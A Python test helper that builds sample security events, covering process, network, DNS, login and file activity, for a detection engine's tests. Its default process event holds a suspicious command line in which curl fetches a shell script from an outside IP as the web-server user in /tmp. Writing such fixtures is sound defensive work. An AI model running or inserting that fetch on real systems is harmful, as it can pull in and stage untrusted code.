"""Event builders shared by the native engine tests."""

from __future__ import annotations

import json
from typing import Any

Event = dict[str, Any]


def make_event(kind: str = "proc", ts: str = "2026-12-03T08:00:00Z", **fields: Any) -> Event:
    """A contract-shaped event of `kind`; `fields` fill the object named by the kind."""
    defaults: dict[str, Event] = {
        "proc": {
            "action": "exec",
            "pid": 4242,
            "ppid": 4100,
            "exe": "/usr/bin/curl",
            "cmdline": "curl -s http://203.0.113.7/x.sh",
            "user": "www-data",
            "uid": 33,
            "parent_exe": "/bin/bash",
            "cwd": "/tmp",
        },
        "net": {
            "action": "connect",
            "proto": "tcp",
            "src_ip": "10.0.0.5",
            "src_port": 40000,
            "dst_ip": "203.0.113.7",
            "dst_port": 443,
            "pid": 1,
            "exe": "/usr/bin/curl",
            "bytes_in": 10,
            "bytes_out": 20,
            "packets": 2,
        },
        "dns": {
            "query": "example.com",
            "qtype": "A",
            "rcode": "NOERROR",
            "answers": [],
            "pid": 1,
            "exe": "/usr/bin/dig",
            "server": "10.0.0.53",
        },
        "auth": {
            "action": "failure",
            "user": "root",
            "src_ip": "198.51.100.7",
            "method": "password",
        },
        "file": {
            "action": "create",
            "path": "/tmp/a",
            "pid": 1,
            "exe": "/bin/sh",
            "size": 1,
            "mode": 420,
            "sha256": "0" * 64,
        },
    }
    body = {**defaults.get(kind, {}), **fields}
    return {
        "schema": "sentinel.event/1",
        "id": f"ev-{kind}-{ts}",
        "ts": ts,
        "host": {"id": "h-017", "name": "web-1", "os": "linux"},
        "sensor": {"name": "test", "version": "0.1.0"},
        "kind": kind,
        kind: body,
    }


def jsonl(*events: Event | str) -> bytes:
    """Newline-delimited JSON; str items are written as they are (for malformed lines)."""
    return "\n".join(e if isinstance(e, str) else json.dumps(e) for e in events).encode()
